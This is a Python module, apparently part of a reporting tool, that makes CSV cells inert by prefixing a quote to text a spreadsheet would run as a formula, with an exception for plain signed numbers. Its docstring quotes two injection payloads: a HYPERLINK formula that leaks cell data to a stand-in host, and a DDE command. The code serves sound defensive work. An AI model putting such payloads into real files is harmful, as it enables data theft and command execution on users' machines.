"""Text that a spreadsheet would run as a formula, made inert in the files it opens.

A cell of indicators.csv, findings.csv or programs.csv holds text from a document (an
indicator's name, a target as written), and a document can be hostile:
``=HYPERLINK("http://x/?"&A1)`` or ``=cmd|' /C calc'!A0`` is a live formula once Excel
opens the CSV. OWASP's rule: a cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (ASVS adds NUL)
gets a ``'`` in front, which a spreadsheet shows as text and does not evaluate.

Except a plain number: ``-5``, ``+2%``, ``-1,5``, ``-1e-05`` (negative targets, changes,
the ``target_value`` column) have no letter, no parenthesis, no reference and no operator
but a leading sign, so a spreadsheet can only read them as a number or as text; with a
``'`` every consumer would get text where it expects a number. The JSON outputs keep the
text exactly; the xlsx report writes such text as a string cell with Excel's own quote
prefix (``'`` as the cell's style, not in its value), so its text is exact too.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
_NUMBER = re.compile(r"[+-]?(?:(?:[0-9][0-9.,]*|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?)?%?")


def runs_as_formula(text: str) -> bool:
    """A spreadsheet would take ``text`` for a formula (a plain number never is one)."""
    return text.startswith(FORMULA_START) and _NUMBER.fullmatch(text) is None


def inert(cell: object) -> object:
    """``cell`` as a CSV holds it safely: ``'`` in front of text that would run."""
    if isinstance(cell, str) and runs_as_formula(cell):
        return "'" + cell
    return cell
